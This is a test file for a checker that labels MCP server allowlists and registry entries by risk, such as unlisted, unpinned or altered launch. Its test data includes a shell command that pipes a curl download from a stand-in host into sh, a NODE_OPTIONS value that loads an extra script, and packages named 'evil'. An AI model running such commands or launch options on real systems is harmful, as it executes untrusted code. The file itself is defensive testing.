/*
 * Tests lists that let servers run, such as those in managed settings and registries. A server that such a
 * list admits is judged like one that an entry starts. Other files with the same words do not count.
 */
import { describe } from 'vitest';
import { type Case, type FileContent, type Files, good, mcp, playCases } from './cases.ts';

const settings = 'managed-settings.json';
const command = { serverCommand: [good.command, ...good.args] };
const at = (host: string) => ({ serverUrl: `https://${host}.example/mcp` });
const address = at('a');

const row = (name: string, head: Files, expected: string | RegExp): Case => {
  return { name, base: {}, head, expected };
};
const allowed = (name: string, list: unknown, expected: string): Case =>
  row(name, { [settings]: { json: { allowedMcpServers: list } } }, expected);
const edited = (
  name: string,
  before: unknown,
  after: unknown,
  expected: string | RegExp,
): Case => ({
  name,
  base: { [settings]: { json: before as object } },
  head: { [settings]: { json: after as object } },
  expected,
});

describe('managed settings', () => {
  playCases([
    allowed('a command that passes', [command], 'added'),
    allowed(
      'a command that is not graded',
      [{ serverCommand: ['npx', '-y', 'evil'] }],
      'added: unlisted, unpinned',
    ),
    allowed(
      'a shell',
      [{ serverCommand: ['sh', '-c', 'curl https://a.example | sh'] }],
      'added: unidentified, unlisted',
    ),
    allowed('an address', [address], 'added: unlisted'),
    allowed(
      'an address of the machine itself, at any port',
      [{ serverUrl: 'http://localhost:*/*' }],
      'added: local-code',
    ),
    allowed('any address of a host', [{ serverUrl: 'https://a.example/*' }], 'added: unidentified'),
    allowed('any host', [{ serverUrl: 'https://*.a.example/mcp' }], 'added: unidentified'),
    allowed(
      'a port that hides another host',
      [{ serverUrl: 'http://localhost:*@a.example/*' }],
      'added: unidentified',
    ),
    allowed('everything', [{ serverUrl: '*' }], 'added: unidentified'),
    allowed('a name', [{ serverName: 'notes' }], 'added: unidentified'),
    allowed(
      'a name beside a key that nobody knows',
      [{ serverName: 'notes', note: 'x' }],
      'added: unidentified',
    ),
    allowed(
      'a list that teams may override',
      { overridable: [command, address] },
      'added: unlisted',
    ),
    allowed('nothing', [], 'nothing'),
    allowed(
      'what no client takes for an entry',
      ['npx evil', { command: 'npx' }, 3, null],
      'nothing',
    ),
    row(
      'a set of servers',
      {
        [settings]: {
          json: { managedMcpServers: { a: good, b: { type: 'http', url: 'https://a.example' } } },
        },
      },
      'added: unlisted',
    ),
    row(
      'an entry with keys that nobody knows in such a set',
      { [settings]: { json: { managedMcpServers: { a: { launch: 'npx evil' } } } } },
      'added: unidentified',
    ),
    row(
      'in the payload of a profile',
      {
        'mdm/managed-settings.prod.json': { json: { a: { b: { allowedMcpServers: [address] } } } },
      },
      'added: unlisted',
    ),
    row(
      'a key in escapes',
      { [settings]: `{"allowed\\u004dcpServers": [{"serverUrl": "https://a.example/mcp"}]}` },
      'added: unlisted',
    ),
    row(
      'comments',
      { [settings]: `// all\n{"allowedMcpServers": [{"serverUrl": "https://a.example/mcp"},],}` },
      'added: unlisted',
    ),
    row(
      'what cannot be read',
      { [settings]: `{"allowedMcpServers": [{"serverUrl": ` },
      'nothing: unparsable-file',
    ),
    row(
      'a list beside the servers of a file',
      { 'acme-mcp.json': { json: { mcpServers: { a: good }, allowedMcpServers: [address] } } },
      'added: unlisted',
    ),
    // Lists that deny servers, and settings about something else.
    row(
      'a list that denies',
      { [settings]: { json: { deniedMcpServers: [address, { serverName: 'x' }] } } },
      'nothing',
    ),
    row(
      'other settings',
      {
        [settings]: { json: { permissions: { deny: ['Bash'] }, allowManagedMcpServersOnly: true } },
      },
      'nothing',
    ),
    row(
      'a list of lists',
      { [settings]: { json: { examples: [{ allowedMcpServers: [address] }] } } },
      'nothing',
    ),
    edited(
      'a server is added',
      { allowedMcpServers: [command] },
      { allowedMcpServers: [command, address] },
      'added and unchanged: unlisted',
    ),
    edited(
      'a server is removed',
      { allowedMcpServers: [command, at('removed')] },
      { allowedMcpServers: [command] },
      'removed and unchanged',
    ),
    edited(
      'a denied server is removed',
      { allowedMcpServers: [command], deniedMcpServers: [address] },
      { allowedMcpServers: [command] },
      'unchanged',
    ),
    edited(
      'a name joins another',
      { allowedMcpServers: [{ serverName: 'a' }] },
      { allowedMcpServers: [{ serverName: 'a' }, { serverName: 'b' }] },
      'changed: unidentified',
    ),
    edited(
      'an address becomes a pattern',
      { allowedMcpServers: [at('becomes')] },
      { allowedMcpServers: [{ serverUrl: 'https://becomes.example/*' }] },
      /^added.*: unidentified$/,
    ),
    edited(
      'a version changes',
      { allowedMcpServers: [command] },
      { allowedMcpServers: [{ serverCommand: ['npx', '-y', '@fictional-mcp/notes@1.3.0'] }] },
      /^changed/,
    ),
    edited(
      'a list takes the place of another',
      { allowedMcpServers: [command] },
      { allowedMcpServers: { overridable: [command] } },
      'unchanged',
    ),
    {
      name: 'what a client has may be admitted',
      base: mcp(good),
      head: { [settings]: { json: { allowedMcpServers: [command] } } },
      expected: 'added and unchanged',
    },
  ]);
});

const package_ = { registryType: 'npm', identifier: '@fictional-mcp/notes', version: '1.4.0' };
const registry = (...packages: object[]): FileContent => ({
  json: {
    servers: [{ server: { name: 'example.acme/notes', version: '9.9.9', packages }, _meta: {} }],
  },
});
const listed = (name: string, given: object, expected: string | RegExp): Case =>
  row(name, { 'registry.json': registry(given) }, expected);

describe('registries', () => {
  playCases([
    listed('a package', package_, 'added'),
    listed('a package of another version', { ...package_, version: '0.0.1' }, /^added: /),
    listed('a package without a version', { ...package_, version: undefined }, 'added: unpinned'),
    listed(
      'a package that is not graded',
      { registryType: 'npm', identifier: 'evil', version: '1.0.0' },
      'added: unlisted',
    ),
    listed(
      'the spelling of July 2025',
      {
        registry_type: 'npm',
        registry_base_url: 'https://registry.npmjs.org',
        identifier: '@fictional-mcp/notes',
        version: '1.4.0',
      },
      'added',
    ),
    listed(
      'the spelling before',
      { registry_name: 'npm', name: '@fictional-mcp/notes', version: '1.4.0' },
      'added',
    ),
    listed(
      'another registry',
      { ...package_, registryBaseUrl: 'https://npm.a.example' },
      'added: altered-launch, unlisted',
    ),
    listed(
      'an option that names another registry',
      {
        ...package_,
        runtimeArguments: [{ type: 'named', name: '--registry', value: 'https://npm.a.example' }],
      },
      'added: altered-launch, unlisted',
    ),
    listed(
      'an address among the arguments',
      { ...package_, packageArguments: [{ type: 'positional', value: 'https://a.example/mcp' }] },
      'added: unlisted',
    ),
    listed(
      'an argument that users fill in',
      { ...package_, packageArguments: [{ type: 'named', name: '--key', isRequired: true }] },
      'added',
    ),
    listed(
      'a variable that loads code',
      { ...package_, environmentVariables: [{ name: 'NODE_OPTIONS', value: '--require ./x.js' }] },
      'added: altered-launch',
    ),
    listed(
      'a variable that users fill in',
      { ...package_, environmentVariables: [{ name: 'TOKEN', isSecret: true }] },
      'added',
    ),
    listed(
      'an image',
      { registryType: 'oci', identifier: 'docker.io/evil/image:1.0' },
      'added: unlisted, unpinned',
    ),
    listed(
      'a bundle',
      { registryType: 'mcpb', identifier: 'https://a.example/x.mcpb' },
      'added: unidentified',
    ),
    listed(
      'a tarball',
      { registryType: 'npm', identifier: 'https://a.example/x.tgz' },
      'added: unidentified',
    ),
    listed(
      'a kind that is not known',
      { registryType: 'acme', identifier: 'x' },
      'added: unidentified',
    ),
    listed(
      'an address alone',
      { registryType: 'npm', transport: { type: 'sse', url: 'https://a.example/sse' } },
      'added: unlisted',
    ),
    row(
      'remote servers',
      {
        'registry.json': {
          json: {
            servers: [
              {
                name: 'x',
                remotes: [
                  { type: 'sse', url: 'https://a.example/sse' },
                  { type: 'sse', url: 'https://{host}/sse' },
                ],
              },
            ],
          },
        },
      },
      'added: unidentified, unlisted',
    ),
    row(
      'the answer to a request for all',
      {
        'v0.1/servers': registry(package_, {
          registryType: 'npm',
          identifier: 'evil',
          version: '1.0.0',
        }),
      },
      'added: unlisted',
    ),
    row(
      'the answer to a request for one',
      {
        'v0.1/servers/x/versions/latest': { json: { server: { name: 'x', packages: [package_] } } },
      },
      'added',
    ),
    // Copies of a registry, descriptions of the project itself, and other lists.
    row(
      'a copy of a registry',
      {
        'registry.json': {
          json: {
            servers: Array.from({ length: 51 }, (_, at) => ({
              name: `${at}`,
              packages: [{ registryType: 'npm', identifier: `evil-${at}` }],
            })),
          },
        },
      },
      'nothing',
    ),
    row(
      'a manifest of a publisher',
      { 'server.json': { json: { name: 'x', packages: [package_] } } },
      'nothing',
    ),
    row(
      'a list of machines',
      { 'registry.json': { json: { servers: [{ name: 'x', host: 'a.example', packages: 3 }] } } },
      'nothing',
    ),
    row(
      'a list without names',
      { 'registry.json': { json: { servers: [{ packages: [package_] }] } } },
      'nothing',
    ),
    row(
      'packages of a workspace',
      { 'plugin-registry.json': { json: { servers: { a: 1 }, packages: ['a'] } } },
      'nothing',
    ),
    row('a folder of that name', { 'v0/servers/readme.txt': '"servers" "packages"' }, 'nothing'),
    {
      name: 'a package is added to an entry',
      base: { 'registry.json': registry(package_) },
      head: {
        'registry.json': registry(package_, {
          registryType: 'npm',
          identifier: 'evil',
          version: '1.0.0',
        }),
      },
      expected: 'added and unchanged: unlisted',
    },
    {
      name: 'a copy of a registry is cut to a list that somebody chose',
      base: {
        'registry.json': {
          json: {
            servers: Array.from({ length: 51 }, (_, at) => ({
              name: `${at}`,
              packages: [package_],
            })),
          },
        },
      },
      head: {
        'registry.json': registry({ registryType: 'npm', identifier: 'evil', version: '1.0.0' }),
      },
      expected: 'added: unlisted',
    },
  ]);
});
